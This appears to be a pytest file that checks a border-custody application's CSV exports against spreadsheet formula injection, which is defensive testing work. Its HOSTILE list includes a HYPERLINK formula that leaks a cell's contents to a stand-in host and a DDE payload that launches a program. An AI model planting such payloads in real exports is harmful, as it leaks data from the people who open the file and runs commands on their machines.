"""Issue #11, finding 6: no CSV export carries a live spreadsheet formula (OWASP's CSV injection rule)."""

from __future__ import annotations

import csv
import io
import pathlib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from borderlink.core.csv_export import FORMULA_STARTS, safe_cell
from tests.clock import moment_in_one_month, month_of

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("http://x/?"&A1,"Open")', "=cmd|' /C calc'!A0", "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def _cells(body: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(body.lstrip("\ufeff"))) for cell in row]


@pytest.mark.parametrize("hostile", HOSTILE)
def test_custody_monthly_csv_neutralises_formulas_on_the_page_and_the_api(hostile, foreign_officer, supervisor, login, api):
    from borderlink.custody import services
    from borderlink.persons.services import NameInput, PersonInput

    services.record_custody(foreign_officer, PersonInput(names=[NameInput(hostile)], nationalities=["VN"]), services.CustodyInput(
        nationality="VN", kind="arrest", detained_at=(when := moment_in_one_month()), place_held=hostile,
        offence="fraud"))
    month = month_of(when)
    for body in (login(supervisor).get("/custody/export.csv", {"country": "LA", "month": month}).content.decode("utf-8"),
                 api(supervisor).get("/api/custody/monthly.csv", {"country": "LA", "month": month}).content.decode("utf-8")):
        cells = _cells(body)
        assert "'" + hostile.strip() in [c.strip() for c in cells] or "'" + hostile in cells
        assert not [c for c in cells if c.startswith(FORMULA_STARTS)], cells


@given(st.text(max_size=30))
def test_no_cell_starts_like_a_formula(text):
    cell = safe_cell(text)
    assert not cell.startswith(FORMULA_STARTS)
    assert cell in (text, "'" + text)


def test_numbers_pass_unchanged():
    assert safe_cell(-3) == -3 and safe_cell(2.5) == 2.5 and safe_cell(None) is None


def test_every_csv_writer_goes_through_the_one_helper():
    root = pathlib.Path(__file__).resolve().parents[2] / "borderlink"
    direct = [str(p.relative_to(root)) for p in root.rglob("*.py")
              if "csv.writer(" in p.read_text(encoding="utf-8") or "csv.DictWriter(" in p.read_text(encoding="utf-8")]
    assert direct == ["core/csv_export.py"], direct
